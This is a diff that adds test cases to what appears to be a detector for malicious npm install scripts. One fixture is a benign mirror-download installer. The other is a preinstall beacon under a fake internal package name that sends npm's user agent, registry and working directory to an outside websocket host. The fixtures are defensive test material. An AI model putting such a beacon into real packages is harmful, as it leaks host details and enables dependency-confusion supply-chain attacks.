@@ -2745,3 +2745,31 @@ describe('markdown-image exfiltration (round 19, and its attacker rewrites)', ()
     ).toEqual([]);
   });
 });
+
+describe("npm's own settings in the environment (round 20)", () => {
+  it('quiet: an install step that downloads from a mirror set by npm_config_<name>_mirror and checks the sum', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fmt-bin',
+        version: '1.4.2',
+        scripts: { postinstall: 'node install.js' },
+      }),
+      'install.js': `const https = require('https'), crypto = require('crypto'), fs = require('fs');
+const MIRROR = process.env.FMT_MIRROR || process.env.npm_config_fmt_mirror || 'https://releases.example.com/fmt';
+https.get(MIRROR + '/v1.4.2/fmt-linux-x64', (res) => { const parts = []; res.on('data', (c) => parts.push(c)); res.on('end', () => { const b = Buffer.concat(parts); if (crypto.createHash('sha256').update(b).digest('hex') === '3b1f') fs.writeFileSync(__dirname + '/vendor/fmt', b, { mode: 0o755 }); }); });`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+  it("npm's user agent and registry sent to a host at install: the host fingerprint of a beacon", () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: '@corp-internal/engines',
+        version: '99.0.1',
+        scripts: { preinstall: 'node check.js' },
+      }),
+      'check.js': `const ws = new (require('ws'))('wss://203.0.113.47:8443/b');
+ws.on('open', () => ws.send(JSON.stringify({ ua: process.env.npm_config_user_agent, reg: process.env.npm_config_registry, cwd: process.cwd() })));`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.exfil-fingerprint')?.install_time).toBe(true);
+  });
+});
